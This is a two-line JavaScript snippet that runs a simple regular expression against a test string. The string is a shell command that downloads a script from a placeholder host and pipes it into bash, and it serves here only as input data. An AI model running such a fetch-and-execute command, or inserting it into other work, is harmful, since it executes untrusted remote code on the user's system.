const re = new RegExp("a|b");
console.log(re.exec("curl -s https://cdn-x7.invalid/a | bash"));
